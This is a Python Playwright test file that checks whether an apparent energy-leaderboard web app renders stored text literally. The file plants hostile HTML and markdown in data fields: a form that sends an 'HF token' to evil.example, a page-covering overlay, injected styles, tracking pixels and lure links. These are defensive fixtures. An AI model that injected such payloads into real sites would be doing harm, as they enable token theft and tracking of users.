"""Text from outside is shown as text in the browser (issue 11, item 5).

A store whose every free-text field holds markup (a form asking for a token, a style sheet, a full-page
overlay, tracking images, links with arbitrary text, LaTeX, auto-linkable addresses) and server paths: each
tab shows it literally, injects no element, links nowhere but the Hub, and the page requests nothing from
any host but the app's own.
"""

from __future__ import annotations

import json
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from core.models import REFERENCE_GPU, Hardware, RequestStatus, Result, ReviewStatus, Source, ValidityCheck
from core.repos import RequestsRepo, ResultsRepo
from core.settings import Settings
from core.store.local import LocalStore
from tests.app.conftest import Served
from tests.app.test_app import _choose, _shot
from tests.factories import later, make_request, result_dict

FORM = '<form id="pwn-form" action="https://evil.example/steal"><input name="token" placeholder="HF token"></form>'
STYLE = '<style id="pwn-style">body { background: rgb(255, 0, 0) !important; }</style>'
OVERLAY = '<div id="pwn-overlay" style="position:fixed;inset:0;z-index:9999;background:#000">hacked</div>'
PIXEL = '<img id="pwn-img" src="https://tracker.example/pixel.gif">'
LINK = "[claim your prize](https://evil.example/prize) ![](https://tracker.example/md.png) www.evil.example"
LATEX = "$$\\href{https://evil.example}{x}$$"
SERVER_PATH = "/srv/aies-worker/data/cache/models--org--x/config.json"
# gradio's footer and plotly's mode bar link to their projects; everything else may link only to the Hub.
FRAMEWORK_LINKS = ("https://gradio.app", "https://plotly.com/")
# What the page must never contain: the injected elements, and anything pointing off the server.
INJECTED = "#pwn-form, #pwn-style, #pwn-overlay, #pwn-img, img[src*='tracker.example'], a[href*='evil.example']"

HOSTILE_GPU = f"NVIDIA H100 {OVERLAY}{PIXEL}"
FAILURE = f"load: the checkpoint has model type `{FORM}` that Transformers does not recognize ({SERVER_PATH})"
LOG = f'Traceback (most recent call last):\n  File "{SERVER_PATH}", line 1\n{STYLE}{OVERLAY}\n{LINK}'
# Each string is shown as it is, but on one line and with server paths cut to their last part.
SHOWN_FAILURE = FAILURE.replace(SERVER_PATH, "…/config.json")


def _hostile_result(result_id: str, model_id: str, gpu: str, source: Source) -> Result:
    values = result_dict(result_id=result_id, model_id=model_id, source=source, review=ReviewStatus.APPROVED)
    values["hardware"] = Hardware(gpu_name=gpu, gpu_count=1, driver=FORM, cuda=STYLE)
    values["software"] = {"torch": LINK, f"pkg{PIXEL}": LATEX}
    values["settings"] = values["settings"].model_copy(update={"dataset_revision": PIXEL})
    values["checks"] = (ValidityCheck(name="gpu_energy_positive", passed=True, detail=f"{LINK} `{OVERLAY}`"),)
    return Result.model_validate(values)


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory):
    data_dir = tmp_path_factory.mktemp("hostile")
    ResultsRepo(LocalStore(data_dir / "results")).add(
        _hostile_result("hx1", "org/hostile-open", REFERENCE_GPU, Source.OPEN),
        # The vector: an approved vendor summary's hardware and software, shown in Model detail.
        _hostile_result("vx1", "acme/hostile-vendor", HOSTILE_GPU, Source.VENDOR),
    )
    request = make_request(request_id="qx1", model_id="org/hostile-open")
    RequestsRepo(LocalStore(data_dir / "requests")).add(
        request.moved_to(RequestStatus.FAILED, later(3), failure_reason=FAILURE, log_excerpt=LOG)
    )
    models = data_dir / "models" / "local"
    (models / "hostile-arch").mkdir(parents=True)  # config.json's own text, echoed by a refusal
    (models / "hostile-arch" / "config.json").write_text(json.dumps({"architectures": [FORM + PIXEL]}))
    (models / "broken-weights").mkdir()  # a refusal that quotes the worker's path to the weights
    (models / "broken-weights" / "config.json").write_text(json.dumps({"architectures": ["BertModel"]}))
    (models / "broken-weights" / "model.safetensors").write_bytes(b"abc")
    served = Served(data_dir, Settings(backend="local", data_dir=data_dir, local_worker=False))
    yield served, data_dir
    served.close()


@pytest.fixture
def watched(hostile_app, page):
    """The page, with every request it makes recorded."""
    served, data_dir = hostile_app
    requested: list[str] = []
    page.context.on("request", lambda request: requested.append(request.url))
    yield page, served.url, requested, data_dir
    app = urlsplit(served.url).netloc
    assert any(urlsplit(url).netloc == app for url in requested)  # the listener saw the page's own requests
    off_server = [url for url in requested if urlsplit(url).scheme in ("http", "https", "ws", "wss")]
    off_server = [url for url in off_server if urlsplit(url).netloc != app]
    assert off_server == [], off_server


def _nothing_injected(page) -> None:
    assert page.locator(INJECTED).count() == 0
    assert page.locator("form").count() == 0
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)"
    links = page.eval_on_selector_all("a[href]", "links => links.map(a => a.getAttribute('href'))")
    outside = [href for href in links if href.startswith(("http:", "https:", "//"))]
    allowed = ("https://huggingface.co/", page.url, *FRAMEWORK_LINKS)
    assert all(href.startswith(allowed) for href in outside), outside


def test_every_tab_shows_stored_text_literally_and_requests_nothing_off_the_server(watched):
    page, url, _, _ = watched
    page.goto(url)
    page.get_by_role("tab", name="Binary Text Classification").click()
    _choose(page, "Hardware", "All hardware")
    table = page.locator("#leaderboard-table")
    expect(table).to_contain_text("acme/hostile-vendor (vendor-measured)", timeout=30_000)
    expect(table).to_contain_text(HOSTILE_GPU)  # the Hardware column
    expect(page.get_by_text(f"Binary Text Classification / {HOSTILE_GPU}: not enough models")).to_be_visible()
    _nothing_injected(page)
    _shot(page, "hostile-leaderboard")

    page.get_by_role("tab", name="Model detail").click()
    _choose(page, "Model", "acme/hostile-vendor")
    expect(page.get_by_text(f"Hardware: 1 × {HOSTILE_GPU}, driver {FORM}, CUDA {STYLE}")).to_be_visible(timeout=30_000)
    expect(page.get_by_text(f"Software: pkg{PIXEL} {LATEX}, torch {LINK}")).to_be_visible()
    expect(page.get_by_text(f"revision {PIXEL}")).to_be_visible()
    expect(page.get_by_text(f"{LINK} {OVERLAY}")).to_be_visible()  # a check's detail
    _nothing_injected(page)
    _shot(page, "hostile-detail")

    page.get_by_role("tab", name="Compare").click()
    models = page.locator(".block", has=page.get_by_text("Models", exact=True)).locator("input").first
    for name in ("acme/hostile-vendor", "org/hostile-open"):
        models.click()
        page.get_by_role("option", name=name, exact=True).click()
    expect(page.locator('[data-testid^="cell-"]:visible').filter(has_text=HOSTILE_GPU)).to_have_count(1)
    _nothing_injected(page)

    page.get_by_role("tab", name="Label").click()
    _choose(page, "Task", "Binary Text Classification")
    expect(page.locator("img[src*='ai-energy-score']").first).to_be_visible(timeout=30_000)
    expect(page.get_by_text(f"on {HOSTILE_GPU[:12]}").first).to_be_attached()  # the snippets' alt text
    _nothing_injected(page)
    _shot(page, "hostile-label")


def test_the_submit_tab_shows_refusals_failures_and_logs_literally_without_server_paths(watched):
    page, url, _, data_dir = watched
    page.goto(url)
    page.get_by_role("tab", name="Submit").click()
    plan = page.locator("#submit-plan")
    page.locator("#submit-model input, #submit-model textarea").first.fill("local/hostile-arch")
    _choose(page, "Task", "Binary Text Classification")
    page.locator("#submit-check").click()
    expect(plan).to_contain_text(f"local/hostile-arch is a {FORM}{PIXEL}; Binary", timeout=30_000)
    _nothing_injected(page)
    page.locator("#submit-model input, #submit-model textarea").first.fill("local/broken-weights")
    page.locator("#submit-check").click()
    expect(plan).to_contain_text(
        "its safetensors weights cannot be read (…/model.safetensors: too short", timeout=30_000
    )
    assert str(data_dir) not in plan.inner_text()

    page.locator("#queue-refresh").click()
    expect(page.locator("#queue-table")).to_contain_text(SHOWN_FAILURE, timeout=30_000)
    page.locator("#queue-request input, #queue-request textarea").first.fill("qx1")
    page.locator("#queue-show").click()
    details = page.locator("#queue-details")
    expect(details).to_contain_text(f"Failure: {SHOWN_FAILURE}", timeout=30_000)
    log = page.locator("#queue-log")
    expect(log).to_contain_text(STYLE + OVERLAY)
    expect(log).to_contain_text('File "…/config.json", line 1')
    for shown in (details, log, page.locator("#queue-table")):
        assert "/srv/" not in shown.inner_text()
    _nothing_injected(page)
    _shot(page, "hostile-submit")
